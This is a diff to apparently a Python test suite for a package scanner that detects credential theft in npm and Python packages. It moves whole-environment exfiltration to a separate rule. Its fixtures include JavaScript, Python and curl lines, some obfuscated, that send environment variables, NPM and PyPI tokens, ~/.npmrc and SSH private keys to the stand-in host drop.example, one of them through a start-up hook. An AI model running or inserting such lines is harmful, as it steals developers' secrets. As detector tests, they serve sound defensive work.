@@ -46,22 +46,6 @@ req.end(body);
     @pytest.mark.parametrize(
         ("source", "what"),
         [
-            (
-                "fetch('https://drop.example/', { method: 'POST', body: JSON.stringify(process.env) });",
-                "the whole environment",
-            ),
-            (
-                "require('https').get('https://drop.example/?' + new URLSearchParams(process.env));",
-                "the whole environment",
-            ),
-            (
-                "const e = process['en' + 'v']; fetch('https://drop.example/', { method: 'POST', body: JSON.stringify({ ...e }) });",
-                "the whole environment",
-            ),
-            (
-                "const { env } = require('process'); fetch('https://drop.example/' + Buffer.from(JSON.stringify(env)).toString('base64'));",
-                "the whole environment",
-            ),
             ("fetch('https://drop.example/?t=' + process.env.NPM_TOKEN);", "the variable NPM_TOKEN"),
             ("const t = process.env['NPM' + '_TOKEN']; fetch(`https://drop.example/${t}`);", "the variable NPM_TOKEN"),
             (
@@ -90,14 +74,6 @@ req.end(body);
         ("source", "what"),
         [
             (
-                "import os, requests\nrequests.post('https://drop.example', json=dict(os.environ))\n",
-                "the whole environment",
-            ),
-            (
-                "import os, json, urllib.request as u\nu.urlopen('https://drop.example', data=json.dumps(dict(os.environ)).encode())\n",
-                "the whole environment",
-            ),
-            (
                 "from os import environ as e\nimport requests\nrequests.get('https://drop.example', params={'t': e['PYPI_TOKEN']})\n",
                 "the variable PYPI_TOKEN",
             ),
@@ -113,10 +89,6 @@ req.end(body);
                 "import os, requests\nwith open(os.path.expanduser('~/.ssh/id_ed25519')) as f:\n    key = f.read()\nrequests.post('https://drop.example', files={'k': key})\n",
                 "SSH keys",
             ),
-            (
-                "import os, socket\ns = socket.create_connection(('drop.example', 443))\ns.sendall(str(os.environ).encode())\n",
-                "the whole environment",
-            ),
         ],
     )
     def test_the_ways_of_python(self, source: str, what: str) -> None:
@@ -128,8 +100,6 @@ req.end(body);
     @pytest.mark.parametrize(
         "command",
         [
-            'curl -d "$(env)" https://drop.example/',
-            "env | curl -X POST --data-binary @- https://drop.example/",
             "curl -F f=@$HOME/.npmrc https://drop.example/",
             "cat ~/.npmrc | curl -d @- https://drop.example/",
             "curl https://drop.example/?t=$NPM_TOKEN",
@@ -158,13 +128,17 @@ setTimeout(() => { const r = https.request({ host: 'drop.example', method: 'POST
             "critical: its install step reads the machine's cloud credentials and sends them to drop.example"
         ]
 
-    def test_a_start_up_hook_that_takes_the_environment_is_critical(self) -> None:
-        line = "import os, urllib.request as u; u.urlopen('https://drop.example/', data=str(dict(os.environ)).encode())"
+    def test_a_start_up_hook_that_takes_a_token_is_critical(self) -> None:
+        line = (
+            "import os, urllib.request as u; u.urlopen('https://drop.example/', data=os.environ['NPM_TOKEN'].encode())"
+        )
         (found,) = findings(credential_theft, wheel({"a.pth": line}))
-        assert told([found]) == ["critical: its start-up hook reads the whole environment and sends it to drop.example"]
+        assert told([found]) == [
+            "critical: its start-up hook reads the variable NPM_TOKEN and sends it to drop.example"
+        ]
 
     def test_a_file_that_a_test_would_be_is_install_code_when_a_step_runs_it(self) -> None:
-        source = "fetch('https://drop.example/', { method: 'POST', body: JSON.stringify(process.env) });"
+        source = "fetch('https://drop.example/', { method: 'POST', body: process.env.NPM_TOKEN });"
         assert severities(
             npm({"test/fixtures/x.txt": source}, scripts={"postinstall": "node test/fixtures/x.txt"})
         ) == ["critical"]
@@ -174,7 +148,7 @@ setTimeout(() => { const r = https.request({ host: 'drop.example', method: 'POST
         assert severities(npm({"index.js": source})) == ["critical"]
 
     def test_in_a_test_it_is_medium(self) -> None:
-        source = "fetch('https://drop.example/', { method: 'POST', body: JSON.stringify(process.env) });"
+        source = "fetch('https://drop.example/', { method: 'POST', body: process.env.NPM_TOKEN });"
         assert severities(npm({"test/x.test.js": source})) == ["medium"]
 
 
@@ -233,6 +207,10 @@ client.connect("build.example", key_filename=os.path.expanduser("~/.ssh/id_rsa")
 """
         assert findings(credential_theft, wheel({"imgpress/__init__.py": source})) == []
 
+    def test_the_whole_environment_has_a_rule_of_its_own(self) -> None:
+        source = "fetch('https://drop.example/', { method: 'POST', body: JSON.stringify(process.env) });"
+        assert findings(credential_theft, installs(source)) == []
+
     def test_the_configuration_of_ssh_is_no_secret(self) -> None:
         source = (
             "import os, requests\nopen(os.path.expanduser('~/.ssh/config')).read()\nrequests.get('https://x.example')\n"
@@ -244,11 +222,11 @@ client.connect("build.example", key_filename=os.path.expanduser("~/.ssh/id_rsa")
         assert findings(credential_theft, wheel({"imgpress/__init__.py": text})) == []
 
     def test_what_the_old_version_did_is_not_new(self) -> None:
-        source = "fetch('https://drop.example/', { method: 'POST', body: JSON.stringify(process.env) });"
+        source = "fetch('https://drop.example/', { method: 'POST', body: process.env.NPM_TOKEN });"
         old = npm({"index.js": source})
         assert [found.new for found in findings(credential_theft, old, old)] == [False]
 
     def test_the_same_theft_that_moves_to_the_install_step_is_new(self) -> None:
-        source = "fetch('https://drop.example/', { method: 'POST', body: JSON.stringify(process.env) });"
+        source = "fetch('https://drop.example/', { method: 'POST', body: process.env.NPM_TOKEN });"
         (found,) = findings(credential_theft, installs(source), npm({"index.js": source}))
         assert found.new
